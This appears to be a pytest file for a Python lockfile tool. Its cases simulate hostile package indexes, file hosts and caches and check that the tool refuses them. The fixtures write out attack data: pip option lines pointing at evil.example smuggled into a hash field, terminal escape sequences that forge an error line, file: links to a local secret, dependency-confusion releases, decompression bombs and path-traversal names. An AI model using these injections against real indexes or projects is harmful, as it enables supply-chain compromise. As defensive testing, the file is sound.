"""The trust-boundary catalog (issue 12): what a hostile index, file host, cache or
environment tried, and what must happen instead. Same table form and the same shared rules
as `test_catalog` (exit code, one line naming the fault, no traceback, no secret anywhere,
a failed command changes no project file), run by its `run_case`."""

from __future__ import annotations

import hashlib
import json
import os
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from pipx_lockext.edges.index.cache import Cache
from tests.conftest import Result
from tests.fakeindex import Release, backend
from tests.fakeindex.backend import BUILD_LOG
from tests.fakeindex.builder import build_wheel
from tests.test_catalog import (
    PRIVATE,
    PROJECT,
    PUBLIC,
    RELEASES,
    Case,
    Step,
    World,
    both,
    compiled,
    fault,
    lock_has,
    lock_lacks,
    other_never_asked,
    params,
    pyproject,
    run_case,
    switch_to_other_index,
    world,  # noqa: F401 - the fixture the cases run in
)

INJECTED = (
    "\n--extra-index-url http://evil.example/simple/\n--trusted-host evil.example\nevilpkg==6.6.6"
)
BAD_NUMBERS = (("TIMEOUT", "0"), ("TIMEOUT", "-1"), ("TIMEOUT", "nan"), ("TIMEOUT", "inf"),
               ("RETRIES", "inf"))  # fmt: skip
# A private sdist-only project that needs a private helper to build, and an attacker's
# helper of the same name, a higher version and an sdist, on the public extra index.
BUILT_PRIVATELY = (
    Release(
        "secretpkg",
        "1.0",
        requires_dist=("leaf",),
        wheels=(),
        dynamic=("Requires-Dist",),
        build_requires=("internal-helper",),
    ),
    Release("internal-helper", "1.0"),
    Release("leaf", "1.1"),
)
HELPER_ON_PUBLIC = (Release("internal-helper", "99.0", wheels=()),)
TERMINAL_ATTACK = "\x1b[2J\x1b]0;OWNED\x07\rerror: fake line"


def json_files(path: str, change: Callable[[list[dict[str, object]]], None]) -> Step:
    """The index's JSON page at `path` rewritten by `change` (HTML pages left alone)."""

    def rewrite(body: bytes) -> bytes:
        try:
            page = json.loads(body)
        except ValueError:
            return body
        change(page["files"])
        return json.dumps(page).encode()

    return lambda w: w.index.rewrite(path, rewrite)


def inject_hash(files: list[dict[str, object]]) -> None:
    for entry in files:
        entry["hashes"] = {"sha256": "a" * 64 + INJECTED}


def inject_hash_into_leaf_1_0(files: list[dict[str, object]]) -> None:
    for entry in files:
        if str(entry["filename"]).startswith("leaf-1.0"):
            entry["hashes"] = {"sha256": "a" * 64 + INJECTED}


def add_spaced_release(files: list[dict[str, object]]) -> None:
    """A `leaf-9.0 ` wheel (a space in the version) pointing at leaf 1.1's real bytes."""
    real = next(f for f in files if str(f["filename"]).startswith("leaf-1.1-"))
    files.append({**real, "filename": "leaf-9.0 -py3-none-any.whl"})


# beta, and what a hostile host would have it ask for instead.
BETA = (
    Release("beta", "1.0", requires_dist=("common>=2",)),
    Release("common", "2.0"),
    Release("gamma", "1.0"),
    Release("delta", "1.0"),
)
BETA_WHEEL = "/files/beta-1.0-py3-none-any.whl"


def evil_beta(extra: str) -> Release:
    return Release("beta", "1.0", requires_dist=("common>=2", extra))


def swapped_wheel(w: World) -> None:
    """The file host serves a beta 1.0 wheel asking for gamma; the page lists the genuine
    sha256 and no PEP 658 file (as this machine's PyPI mirror)."""
    folder = w.root.parent / "evil"
    folder.mkdir(exist_ok=True)
    evil = build_wheel(evil_beta("gamma"), "py3-none-any", folder).path.read_bytes()
    w.index.rewrite(BETA_WHEEL, lambda _: evil)
    json_files("/simple/beta/", drop_metadata_keys)(w)


def mislabelled_wheel(w: World) -> None:
    """The index itself lists, with its true sha256, a `beta-1.0` wheel whose METADATA
    says beta 2.0: the hash holds, the name lies."""
    folder = w.root.parent / "mislabelled"
    folder.mkdir(exist_ok=True)
    wheel = build_wheel(Release("beta", "2.0", requires_dist=("gamma",)), "py3-none-any", folder)
    data = wheel.path.read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    w.index.rewrite(BETA_WHEEL, lambda _: data)

    def relist(files: list[dict[str, object]]) -> None:
        drop_metadata_keys(files)
        for entry in files:
            if entry["filename"] == BETA_WHEEL.rsplit("/", 1)[1]:
                entry["hashes"] = {"sha256": digest}

    json_files("/simple/beta/", relist)(w)


def drop_metadata_keys(files: list[dict[str, object]]) -> None:
    for entry in files:
        entry.pop("core-metadata", None)
        entry.pop("dist-info-metadata", None)


def unhashed_metadata_file(w: World) -> None:
    """beta's `.metadata` listed as `core-metadata: true` (no hash), and asking for gamma."""
    evil = evil_beta("gamma").wheel_metadata
    w.index.rewrite(BETA_WHEEL + ".metadata", lambda _: evil)

    def unhashed(files: list[dict[str, object]]) -> None:
        drop_metadata_keys(files)
        for entry in files:
            entry["core-metadata"] = True

    json_files("/simple/beta/", unhashed)(w)


def own_bad_metadata_file(w: World) -> None:
    """Index {url} lists the genuine wheel's sha256, and its own `.metadata` asking for
    delta, with that file's correct sha256."""
    evil = evil_beta("delta").wheel_metadata
    w.index.rewrite(BETA_WHEEL + ".metadata", lambda _: evil)

    def listed(files: list[dict[str, object]]) -> None:
        for entry in files:
            if "core-metadata" in entry:
                entry["core-metadata"] = {"sha256": hashlib.sha256(evil).hexdigest()}
                entry.pop("dist-info-metadata", None)

    json_files("/simple/beta/", listed)(w)


def cache_root() -> Path:
    return Path(os.environ["REQLOCK_CACHE_DIR"])


def flip_content_type(w: World) -> None:
    """One byte of every cached page's content type changed (its body left alone)."""
    pages = [p for p in cache_root().rglob("*") if p.is_file() and "pages-" in str(p)]
    assert pages
    for page in pages:
        page.write_bytes(page.read_bytes().replace(b"application/vnd", b"bpplication/vnd", 1))


def hide_leaf_1_1(files: list[dict[str, object]]) -> None:
    files[:] = [f for f in files if not str(f["filename"]).startswith("leaf-1.1")]


def stored_ten_years_ahead(w: World) -> None:
    """The pages restored as if fetched while the clock ran ten years ahead (without
    validators, so that revalidating gets the page again), and leaf 1.1 released."""
    ahead = Cache(cache_root(), clock=lambda: time.time() + 10 * 365 * 86400)
    for name in ("app-dep", "leaf"):
        page = Cache(cache_root()).page(f"{w.index.url}{name}/")
        assert page is not None
        ahead.store_page(replace(page, etag=None, last_modified=None))
    w.index.clear_faults()


def link_local_file(target: Callable[[World], Path]) -> Step:
    """The index's leaf page also lists a leaf 1.1 wheel at a `file:` URL on this machine,
    with no hash (so a lock would read the file to hash it)."""

    def step(w: World) -> None:
        url = target(w).as_uri()

        def add(files: list[dict[str, object]]) -> None:
            files.append({"filename": "leaf-1.1-py2-none-any.whl", "url": url, "hashes": {}})

        json_files("/simple/leaf/", add)(w)

    return step


def secret_file(w: World) -> Path:
    return w.write("secret.txt", "TOP SECRET\n")


def fifo(w: World) -> Path:
    path = w.root.parent / "fifo"
    os.mkfifo(path)
    return path


def local_index_linking_dev_zero(w: World) -> None:
    """A local index (file: URL, named by the user) whose leaf page links a wheel that is
    a symlink to /dev/zero."""
    index = w.root.parent / "localindex"
    (index / "leaf").mkdir(parents=True)
    wheel = index / "leaf-1.0-py3-none-any.whl"
    wheel.symlink_to("/dev/zero")
    link = f'<a href="{wheel.as_uri()}#sha256={"a" * 64}">{wheel.name}</a>'
    (index / "leaf/index.html").write_text(f"<!DOCTYPE html><html><body>{link}</body></html>")
    w.env.setenv("PIP_INDEX_URL", index.as_uri() + "/")


PADDING = b" " * (80 << 20)
"""80 MiB of JSON whitespace: a page past the 64 MiB cap that still parses."""


def padded_page(path: str) -> Step:
    return lambda w: w.index.rewrite(path, lambda body: body + PADDING)


def metadata_bomb(w: World) -> None:
    """beta 1.0's wheel (listed with its true sha256, no .metadata) whose METADATA is
    20 MiB, 20 KiB compressed."""
    release = BETA[0]
    metadata = release.wheel_metadata + b"\n" + b"x" * (20 << 20)
    path = w.root.parent / "beta-1.0-py3-none-any.whl"
    info = backend.dist_info_dir("beta", "1.0")
    backend.write_wheel(path, {}, info, metadata, ["py3-none-any"])
    bomb = path.read_bytes()
    w.index.rewrite(BETA_WHEEL, lambda _: bomb)

    def listed(files: list[dict[str, object]]) -> None:
        drop_metadata_keys(files)
        for entry in files:
            if entry["filename"] == path.name:
                entry["hashes"] = {"sha256": hashlib.sha256(bomb).hexdigest()}

    json_files("/simple/beta/", listed)(w)


def locked(text: str) -> Step:
    """A setup step asserting what the lock holds so far (that the attack took on A)."""
    return lambda w: lock_has(text)(w, Result(0, "", ""))


def deep_groups(depth: int) -> str:
    chain = [f'g{i} = [{{include-group = "g{i + 1}"}}]' for i in range(depth)]
    return "[dependency-groups]\n" + "\n".join([*chain, f'g{depth} = ["leaf"]'])


def hooks_run(w: World) -> list[str]:
    """What the fake backends logged: "<name> <version> <hook>" per hook run."""
    log = Path(w.fill("{root}")).parent / "build-hooks.log"
    return log.read_text().splitlines() if log.exists() else []


def other_files_never_fetched(w: World, result: object) -> None:
    """The other index may be asked for pages (to warn about shadowing), never for files."""
    assert w.other is not None
    assert not [r.path for r in w.other.requests if r.path.startswith("/files/")]


def only_the_private_build_ran(w: World, result: object) -> None:
    assert hooks_run(w) == ["secretpkg 1.0 get_requires_for_build_wheel",
                            "secretpkg 1.0 prepare_metadata_for_build_wheel"]  # fmt: skip
    build = (w.root / "requirements/base.build.lock.txt").read_text()
    assert "internal-helper==1.0" in build


def no_warning(w: World, result: object) -> None:
    assert "warning" not in getattr(result, "err", ""), getattr(result, "err", "")


def no_raw_control_characters(w: World, result: object) -> None:
    text = getattr(result, "err", "") + getattr(result, "out", "")
    assert not any(c in text for c in "\x1b\x07\r"), repr(text)
    assert "\\x1b]0;OWNED\\x07\\rerror: fake line" in text


CASES = [
    Case(
        "hash-value-injects-lines",
        "A JSON page's sha256 carries pip option lines: the page is refused where it enters "
        "(exit 4, naming the file), and no lock is written (item 5).",
        ("compile",),
        4,
        ("/simple/app-dep/", "unreadable index page", "sha256 is not 64 hex digits"),
        setup=(json_files("/simple/app-dep/", inject_hash),),
    ),
    Case(
        "hash-value-injects-lines-into-a-release-not-considered",
        "The same attack on leaf 1.0, which is never considered (1.1 is newer): the page is "
        "read release by release, so that entry is never read and cannot reach the lock.",
        ("compile",),
        0,
        setup=(json_files("/simple/leaf/", inject_hash_into_leaf_1_0),),
        check=both(lock_has("leaf==1.1"), lock_lacks("evil.example")),
    ),
    Case(
        "file-name-with-a-space",
        "`leaf-9.0 -py3-none-any.whl` is no release pip could find: leaf stays 1.1 (item 9).",
        ("compile",),
        0,
        setup=(json_files("/simple/leaf/", add_spaced_release),),
        check=both(lock_has("leaf==1.1"), lock_lacks("9.0")),
    ),
    Case(
        "yank-reason-terminal-escapes",
        "A yank reason that clears the screen, retitles the window and forges an error line "
        "is shown escaped, in a terminal or a pipe (item 10).",
        ("compile",),
        0,
        releases=(*RELEASES, Release("ansi", "1.0", yanked=TERMINAL_ATTACK)),
        files={"pyproject.toml": pyproject(("ansi==1.0",))},
        check=no_raw_control_characters,
    ),
    *(
        Case(
            f"pip-{name.lower()}-{value}",
            f"{name}={value} is bad input naming the setting, not a traceback (item 11).",
            ("compile",),
            2,
            (f"PIP_{name}", f"{value!r}"),
            env={f"PIP_{name}": value},
        )
        for name, value in BAD_NUMBERS
    ),
    Case(
        "include-group-1000-deep",
        "A 1,000-deep include-group chain is read without a RecursionError (item 11).",
        ("check",),
        1,
        ("requirements/g999.lock.txt", "missing"),
        files={"pyproject.toml": PROJECT + deep_groups(1000)},
    ),
    Case(
        "build-requirement-confusion",
        "secretpkg (private, sdist only, Requires-Dist dynamic) needs internal-helper to "
        "build; the public index offers internal-helper 99.0 as an sdist. In pip's usual "
        "setup (public --index-url, private --extra-index-url) its build requirements come "
        "from reqlock's own first-index resolution: no public file is fetched, no 99.0 "
        "backend runs, secretpkg is built with the private 1.0 (item 1).",
        ("compile", "--index-url", "{other}", "--extra-index-url", "{url}"),
        0,
        files={"pyproject.toml": pyproject(("secretpkg",))},
        releases=BUILT_PRIVATELY,
        other=HELPER_ON_PUBLIC,
        env={BUILD_LOG: "{root}/../build-hooks.log"},
        check=both(
            lock_has("secretpkg==1.0", "leaf==1.1"),
            other_files_never_fetched,
            only_the_private_build_ran,
        ),
    ),
    Case(
        "flags-over-project-indexes",
        "The project's extra index with unsafe-best-match, compiled with --extra-index-url: "
        "the flag's index alone is searched and written, still with the project's strategy "
        "(one precedence rule; item 12).",
        ("compile", "--extra-index-url", "{url}"),
        0,
        files={
            "pyproject.toml": PROJECT.replace(
                "[tool.reqlock]",
                '[tool.reqlock]\nextra-index-url = ["{other}"]\n'
                'index-strategy = "unsafe-best-match"',
            )
        },
        other=(Release("app-dep", "9.0"),),
        check=both(
            other_never_asked,
            lock_has("--extra-index-url {url}", "app-dep==2.0"),
            lock_lacks("{other}"),
        ),
    ),
]

CONFUSION = [
    Case(
        "confusion-pip-usual-setup",
        "pip's usual setup, --index-url PUBLIC --extra-index-url PRIVATE: the extra index is "
        "searched first (uv's order), so the public internal-lib 99.0 loses, and the name "
        "offered by both with different releases is warned about, naming both indexes and "
        "the package-index line that pins it (item 2).",
        ("compile", "--index-url", "{other}", "--extra-index-url", "{url}"),
        0,
        (
            "warning: internal-lib is offered by {url} and by {other}",
            '[tool.reqlock.package-index] internal-lib = "{url}"',
        ),
        files={"pyproject.toml": pyproject(("internal-lib",))},
        releases=PRIVATE,
        other=PUBLIC,
        check=both(lock_has("internal-lib==1.0"), lock_lacks("99.0", "leaf")),
    ),
    Case(
        "confusion-warned-the-other-way-round",
        "The private index as index-url and the public one as an extra: the extra wins (as "
        "uv), and the warning says so with the line that pins internal-lib (item 2).",
        ("compile", "--extra-index-url", "{other}"),
        0,
        (
            "internal-lib is offered by {other} and by {url}",
            "taken from {other}",
            '[tool.reqlock.package-index] internal-lib = "{other}"',
        ),
        files={"pyproject.toml": pyproject(("internal-lib",))},
        releases=PRIVATE,
        other=PUBLIC,
    ),
    Case(
        "confusion-mirror-not-warned",
        "An extra index that mirrors the same files is not worth a warning (item 2).",
        ("compile", "--extra-index-url", "{other}"),
        0,
        files={"pyproject.toml": pyproject(("internal-lib",))},
        releases=PRIVATE,
        other=PRIVATE,
        check=both(lock_has("internal-lib==1.0"), no_warning),
    ),
    Case(
        "confusion-pinned-not-warned",
        "A name pinned by [tool.reqlock.package-index] is asked of its index alone: no "
        "warning, and the other index never asked (item 2).",
        ("compile", "--extra-index-url", "{other}"),
        0,
        files={
            "pyproject.toml": pyproject(("internal-lib",))
            + '[tool.reqlock.package-index]\ninternal-lib = "{url}"\n'
        },
        releases=PRIVATE,
        other=PUBLIC,
        check=both(lock_has("internal-lib==1.0"), no_warning, other_never_asked),
    ),
]
CASES += CONFUSION

UNVERIFIED = [
    Case(
        "range-read-metadata-swapped",
        "A file host serves another beta-1.0 wheel (asking for gamma) while the page lists "
        "the genuine sha256 and no .metadata: the metadata comes from the whole wheel, "
        "checked, so the swap is exit 5 naming the file; never gamma in a lock (item 3).",
        ("compile",),
        5,
        ("beta-1.0-py3-none-any.whl", "does not match the index's"),
        files={"pyproject.toml": pyproject(("beta",))},
        releases=BETA,
        setup=(swapped_wheel,),
    ),
    Case(
        "wheel-metadata-of-another-release",
        "A wheel named beta-1.0 (its hash listed truly) whose METADATA says beta 2.0: passed "
        "over, saying so, never resolved as what it claims inside (item 9).",
        ("compile",),
        3,
        ("beta-1.0-py3-none-any.whl", "its metadata says beta 2.0, not the beta 1.0"),
        files={"pyproject.toml": pyproject(("beta",))},
        releases=(Release("beta", "1.0", requires_dist=("common>=2",), sdist=False), *BETA[1:]),
        setup=(mislabelled_wheel,),
    ),
    Case(
        "metadata-file-without-hash",
        "A .metadata file listed as `core-metadata: true` (no hash) says gamma: unverified, "
        "so it is not used; the checked wheel's metadata is (item 3).",
        ("compile",),
        0,
        files={"pyproject.toml": pyproject(("beta",))},
        releases=BETA,
        setup=(unhashed_metadata_file,),
        check=both(lock_has("beta==1.0", "common==2.0"), lock_lacks("gamma")),
    ),
    Case(
        "cache-poisoned-by-another-index",
        "A compile against index A (genuine wheel hash, its own .metadata asking for delta, "
        "with a hash right for it) must not leave that metadata for a compile against the "
        "genuine index B sharing the cache: B locks no delta (item 4).",
        ("compile",),
        0,
        files={"pyproject.toml": pyproject(("beta",))},
        releases=BETA,
        other=BETA,
        setup=(own_bad_metadata_file, compiled(), locked("delta==1.0"), switch_to_other_index),
        check=both(lock_has("beta==1.0", "{other}"), lock_lacks("delta")),
    ),
]
CASES += UNVERIFIED

CACHE = [
    Case(
        "cache-page-header-changed",
        "One changed byte in a cached page's content type is a miss, refetched: not exit 3 "
        '"not on any configured index" (item 8).',
        ("compile", "-U"),
        0,
        setup=(compiled(), flip_content_type),
        check=lock_has("app-dep==2.0", "leaf==1.1"),
    ),
    Case(
        "cache-page-stored-in-the-future",
        "A page cached while the clock ran ten years ahead reads as stale: compile -U sees "
        "the new leaf 1.1 (item 8).",
        ("compile", "-U"),
        0,
        setup=(
            json_files("/simple/leaf/", hide_leaf_1_1),
            compiled(),
            locked("leaf==1.0"),
            stored_ten_years_ahead,
        ),
        check=lock_has("leaf==1.1"),
    ),
]
CASES += CACHE

LOCAL_FILES = [
    Case(
        "remote-page-links-a-local-secret",
        "A remote index page lists a leaf wheel at file:///…/secret.txt: the page is refused "
        "naming it, and the secret is never read nor hashed into a lock (item 6).",
        ("compile",),
        4,
        ("{url}leaf/", "refused", "leaf-1.1-py2-none-any.whl", "not a web URL"),
        setup=(link_local_file(secret_file),),
    ),
    Case(
        "remote-page-links-a-fifo",
        "A remote index page lists a wheel at a FIFO's file: URL: refused, compile does not "
        "hang (item 6).",
        ("compile",),
        4,
        ("{url}leaf/", "refused", "not a web URL"),
        setup=(link_local_file(fifo),),
    ),
    Case(
        "local-index-links-dev-zero",
        "Even a local index the user named cannot make compile read /dev/zero: only regular "
        "files are read (item 6).",
        ("compile",),
        4,
        ("leaf-1.0-py3-none-any.whl", "not a regular file"),
        files={"pyproject.toml": pyproject(("leaf",), index="")},
        setup=(local_index_linking_dev_zero,),
    ),
]
CASES += LOCAL_FILES

LIMITS = [
    Case(
        "page-over-the-size-cap",
        "An 80 MiB index page is refused, naming the page and the 64 MiB cap (item 7).",
        ("compile",),
        4,
        ("{url}app-dep/", "over the 64 MiB cap"),
        setup=(padded_page("/simple/app-dep/"),),
    ),
    Case(
        "page-gzip-bomb",
        "A gzip page of a few hundred KB that expands past 64 MiB is refused while it is "
        "decompressed, naming the cap (item 7).",
        ("compile",),
        4,
        ("{url}app-dep/", "over the 64 MiB cap"),
        setup=(padded_page("/simple/app-dep/"), fault("/simple/app-dep/", "gzip")),
    ),
    Case(
        "gzip-page-within-the-cap",
        "A gzip-encoded page of ordinary size is read as the page it is (item 7).",
        ("compile",),
        0,
        setup=(fault("/simple/*", "gzip"),),
        check=lock_has("app-dep==2.0", "leaf==1.1"),
    ),
    Case(
        "wheel-metadata-bomb",
        "A wheel whose METADATA expands to 20 MiB is not decompressed: the 16 MiB cap is "
        "named (item 7).",
        ("compile",),
        3,
        ("beta-1.0-py3-none-any.whl", "16 MiB cap"),
        files={"pyproject.toml": pyproject(("beta",))},
        releases=BETA,
        setup=(metadata_bomb,),
    ),
    Case(
        "page-slow-drip",
        "A page sent one byte every 0.2 s never trips PIP_TIMEOUT=1 per read; the overall "
        "deadline ends it, said as such (item 7).",
        ("compile",),
        4,
        ("{url}app-dep/", "too slow", "overall deadline"),
        env={"PIP_TIMEOUT": "1", "PIP_RETRIES": "0"},
        setup=(fault("/simple/app-dep/", "drip", seconds=0.2),),
    ),
]
CASES += LIMITS


def symlinked_requirements(w: World) -> None:
    """requirements/ is a symlink to a folder outside the project holding a lock."""
    outside = w.root.parent / "elsewhere"
    outside.mkdir()
    (outside / "base.lock.txt").write_text("precious\n")
    (w.root / "requirements").symlink_to(outside, target_is_directory=True)


def outside_untouched(w: World, _: object) -> None:
    assert (w.root.parent / "elsewhere/base.lock.txt").read_text() == "precious\n"


# Issue 14 item 6: writes never escape the project, and layer names are names.
CASES += [
    *(
        Case(
            f"output-dir-{label}",
            f"output-dir = {value!r} would write locks outside the project: bad input.",
            ("compile",),
            2,
            ("pyproject.toml", "[tool.reqlock].output-dir", "inside the project", value),
            files={
                "pyproject.toml": PROJECT.replace(
                    "[tool.reqlock]", f'[tool.reqlock]\noutput-dir = "{value}"'
                )
            },
        )
        for label, value in (("parent", "../../.."), ("absolute", "/tmp/reqlock-out"))
    ),
    Case(
        "requirements-symlinked-outside",
        "A symlinked requirements/ pointing out of the project: nothing is written there.",
        ("compile",),
        2,
        ("requirements/base.lock.txt", "outside the project"),
        setup=(symlinked_requirements,),
        check=outside_untouched,
    ),
    Case(
        "group-name-with-slashes",
        'A group named "../../x" would become requirements/-/-/x.lock.txt: refused.',
        ("compile",),
        2,
        ("pyproject.toml", "[dependency-groups].../../x", "group name is not a valid name"),
        files={"pyproject.toml": PROJECT + '[dependency-groups]\n"../../x" = ["leaf"]\n'},
    ),
    Case(
        "in-file-name-with-a-newline",
        "An .in file whose name holds a newline would break the lock header: refused.",
        ("check",),
        2,
        ("requirements/dev\\nx.in", "the file name is not a valid name"),
        files={"requirements/base.in": "leaf\n", "requirements/dev\nx.in": "-r base.in\n"},
    ),
]


@pytest.mark.parametrize("world", params(CASES), indirect=True)
def test_trust_catalog(world: World) -> None:  # noqa: F811 - the fixture, by its name
    run_case(world)
